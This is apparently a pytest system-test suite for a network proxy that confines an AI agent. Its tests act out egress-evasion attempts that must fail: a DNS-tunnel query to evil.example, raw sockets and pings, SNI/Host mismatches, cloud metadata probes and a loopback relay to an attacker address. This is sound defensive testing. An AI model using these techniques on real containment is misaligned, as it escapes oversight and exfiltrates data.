"""What an agent may try behind the real rules and the real proxy: policy decides it, or nothing of it arrives.

The proof is what a host that nobody may reach saw on its wire: what the proxy itself sent it, to end the test, alone.
"""

from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from cordons import AGENT, BAD, BELL, DESK, EXPLICIT, GOOD, OTHER, REDIS, Cordon, cordon

pytestmark = pytest.mark.system

CLOSED = ("ConnectionResetError", "b''")
TLS = """
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
with context.wrap_socket(socket.create_connection(({address!r}, 443)), server_hostname={sni!r}) as wire:
    wire.sendall(b"GET /v1/invoices/7 HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n")
    print(wire.recv(12).decode())
"""
ECHO = {4: b"\x08\x00\xf7\xff" + bytes(16), 6: b"\x80\x00" + bytes(18)}  # as ping sends it
FAMILIES = pytest.mark.parametrize("family", [4, 6], ids=["IPv4", "IPv6"])


@pytest.fixture(scope="module", params=["gateway", "sidecar"])
def place(request: pytest.FixtureRequest) -> Iterator[Cordon]:
    with cordon(request.param) as it:
        it.register()
        assert it.curl("https://erp.example/v1/invoices/7") == "200"
        yield it


@contextmanager
def unseen(place: Cordon) -> Iterator[None]:
    """Nothing of what is done in here reaches the host that nobody may reach, nor the resolver, nor an origin."""
    before, asked = (place.plain.mark(), place.tls.mark()), len(place.resolver.asked)
    with place.evil.watch() as seen:
        yield
        place.ring()
        assert seen.until(BELL) == []
    assert (place.plain.mark(), place.tls.mark()) == before
    assert [name for name in place.resolver.asked[asked:] if "evil" in name or "secret" in name] == []


def first_bytes(
    place: Cordon, address: str, port: int, said: bytes = b"", user: int = AGENT, within_s: float = 5
) -> str:
    """What comes back from a connection, if anything does."""
    text = f"with socket.create_connection(({address!r}, {port})) as wire:\n    wire.sendall({said!r})\n"
    return place.python(text + "    print(wire.recv(99))", user=user, within_s=within_s)


@FAMILIES
@pytest.mark.parametrize("user", [AGENT, OTHER, 0], ids=["the agent", "another user", "root"])
def test_an_address_that_is_no_name_is_closed_on_any_port(place: Cordon, family: int, user: int) -> None:
    since = len(place.codes())
    with unseen(place):
        for port in (22, 25, 80, 443, 853, 4444):
            said = b"GET / HTTP/1.1\r\nHost: erp.example\r\n\r\n"
            assert first_bytes(place, BAD[family], port, said, user) in CLOSED
    place.journaled("transparent.literal", since)
    assert place.codes()[since:] == ["transparent.literal"] * 6


@FAMILIES
def test_datagrams_and_pings_do_not_arrive(place: Cordon, family: int) -> None:
    there = BAD[family]
    with unseen(place):
        for port in (443, 123, 4433, 5353):
            assert "stub" not in place.agent.udp(there, port, user=AGENT)
        place.agent.udp(there, 53, user=AGENT)
        kind, ping = ("AF_INET6", "IPPROTO_ICMPV6") if family == 6 else ("AF_INET", "IPPROTO_ICMP")
        for protocol in ("IPPROTO_UDP", "IPPROTO_TCP", ping):
            raw = f"socket.socket(socket.{kind}, socket.SOCK_RAW, socket.{protocol})"
            place.agent.python(f"{raw}.sendto({ECHO[family]!r}, ({there!r}, 0))", user=0)


def test_a_question_for_a_name_goes_no_further_than_the_stub(place: Cordon) -> None:
    """Also when it is sent to another server, by UDP or TCP, and when the name is the message."""
    ask = """
import struct
name = b"".join(bytes([len(each)]) + each.encode() for each in {name!r}.split(".")) + b"\\0"
packet = struct.pack("!6H", 7, 256, 1, 0, 0, 0) + name + struct.pack("!2H", {kind}, 1)
sock = socket.socket(socket.{family}, socket.{way})
sock.connect(({server!r}, 53))
sock.send(packet if {way!r} == "SOCK_DGRAM" else struct.pack("!H", len(packet)) + packet)
found = sock.recv(600)[0 if {way!r} == "SOCK_DGRAM" else 2:]
print(found[3] & 15, found[-4] if found[7] else "none")
"""
    name = "secret-payload.tunnel.evil.example"
    with unseen(place):
        for server, family in ((BAD[4], "AF_INET"), (BAD[6], "AF_INET6"), (GOOD[4], "AF_INET")):
            for way in ("SOCK_DGRAM", "SOCK_STREAM"):
                told = place.python(ask.format(name=name, kind=1, server=server, family=family, way=way))
                assert told in ("0 198", "0 none")
        assert place.python(ask.format(name=name, kind=16, server=BAD[4], family="AF_INET", way="SOCK_DGRAM"))[0] == "5"


def test_a_name_outside_the_mandate_is_an_ordinary_destination_that_policy_refuses(place: Cordon) -> None:
    """So is a resolver behind HTTPS."""
    since = len(place.codes())
    with unseen(place):
        assert place.curl("https://evil.example/v1/invoices/7") == "403"
        assert place.curl("https://dns.example/dns-query?dns=AAAB") == "403"
        assert place.curl("http://evil.example/v1/invoices/7") == "403"
    assert place.codes()[since:] == ["mandate.not_covered"] * 3


@pytest.mark.parametrize("words", [("--noproxy", "*"), ("--proxy", "http://{own}:8080", "--noproxy", "erp.example")])
def test_proxy_settings_do_not_matter(place: Cordon, words: tuple[str, ...]) -> None:
    given = [word.format(own=place.own[4]) for word in words]
    with unseen(place):
        assert place.curl("https://evil.example/v1/invoices/7", "--noproxy", "*") == "403"
    assert place.curl("https://erp.example/v1/invoices/7", *given) == "200"


@pytest.mark.parametrize(
    ("meant", "sni", "host", "got", "code"),
    [
        pytest.param("erp.example", "evil.example", "evil.example", "", "transparent.sni", id="another name in TLS"),
        pytest.param("evil.example", "erp.example", "erp.example", "", "transparent.sni", id="an allowed name in TLS"),
        pytest.param("erp.example", None, "erp.example", "", "transparent.sni", id="no name in TLS"),
        pytest.param("erp.example", "erp.example", "evil.example", "HTTP/1.1 400", "url.ambiguous", id="another Host"),
        pytest.param("evil.example", "evil.example", "erp.example", "HTTP/1.1 400", "url.ambiguous", id="allowed Host"),
        pytest.param(BAD[4], "erp.example", "erp.example", "", "transparent.literal", id="the attacker's address"),
        pytest.param(GOOD[4], "erp.example", "erp.example", "", "transparent.literal", id="the origin's address"),
        pytest.param("198.19.7.7", "erp.example", "erp.example", "", "transparent.unmapped", id="nobody's address"),
    ],
)
def test_names_and_addresses_must_agree(
    place: Cordon, meant: str, sni: str | None, host: str, got: str, code: str
) -> None:
    since = len(place.codes())
    with unseen(place):
        told = place.python(TLS.format(address=meant, sni=sni, host=host).replace("{host}", host))
        assert told == got or (not got and not told.startswith("HTTP"))
    place.journaled(code, since)


def test_the_same_with_names_that_agree_passes(place: Cordon) -> None:
    assert place.python(TLS.format(address="erp.example", sni="erp.example", host="erp.example")) == "HTTP/1.1 200"


def test_what_is_not_tls_on_443_is_closed(place: Cordon) -> None:
    since = len(place.codes())
    with unseen(place):
        for said in (b"SSH-2.0-OpenSSH_9\r\n", b"GET / HTTP/1.1\r\nHost: erp.example\r\n\r\n", b"EHLO x\r\n"):
            assert first_bytes(place, "erp.example", 443, said) in CLOSED
    place.journaled("transparent.protocol", since)
    assert place.codes()[since:] == ["transparent.protocol"] * 3


@FAMILIES
def test_the_proxys_own_parts_are_reached_by_the_explicit_port_alone(place: Cordon, family: int) -> None:
    own = place.own[family]
    said = b"GET /v1/invoices/7 HTTP/1.1\r\nHost: erp.example\r\n\r\n"
    with unseen(place):
        for port in (8444, 5353, REDIS, DESK):
            for user in (AGENT, OTHER):
                assert not first_bytes(place, own, port, said, user, within_s=0.3).startswith("b'HTTP")
                assert "PONG" not in first_bytes(place, own, port, b"PING\r\n", user, within_s=0.3)
        assert "stub" not in place.agent.udp(own, 5353, user=AGENT)
    if family == 4:
        assert first_bytes(place, own, EXPLICIT, said).startswith("b'HTTP/1.1 ")


@pytest.mark.parametrize("address", ["169.254.169.254", "fd00:ec2::254", "100.100.100.200"])
def test_metadata_is_not_reached(place: Cordon, address: str) -> None:
    with unseen(place):
        said = b"GET /latest/meta-data/ HTTP/1.1\r\nHost: erp.example\r\n\r\n"
        told = first_bytes(place, address, 80, said, within_s=0.5)
        assert told in (*CLOSED, "TimeoutError", "ConnectionRefusedError", "OSError", "PermissionError")


def test_a_relay_beside_the_agent_gets_no_further(place: Cordon) -> None:
    """A program of another user's on the agent's loopback, which passes on what it is told."""
    relay = f"""
import threading
def carry(one, other):
    try:
        while data := one.recv(4096):
            other.sendall(data)
    finally:
        other.shutdown(socket.SHUT_RDWR)
with socket.create_server(("127.0.0.1", 9009)) as door:
    inner = socket.create_connection(("127.0.0.1", 9009))
    far, _ = door.accept()
    out = socket.create_connection(({BAD[4]!r}, 443))
    threading.Thread(target=carry, args=(far, out), daemon=True).start()
    threading.Thread(target=carry, args=(out, far), daemon=True).start()
    inner.sendall(b"GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")
    print(inner.recv(99))
"""
    since = len(place.codes())
    with unseen(place):
        assert place.python(relay, user=OTHER) in CLOSED
    place.journaled("transparent.literal", since)


def test_an_agent_as_it_is_deployed_has_no_raw_and_no_packet_sockets(place: Cordon) -> None:
    for kind in ("AF_PACKET, socket.SOCK_RAW", "AF_INET, socket.SOCK_RAW", "AF_INET6, socket.SOCK_RAW"):
        for user in (AGENT, 0):
            assert place.python(f"socket.socket(socket.{kind}, 255)\nprint('made')", user=user) == "PermissionError"
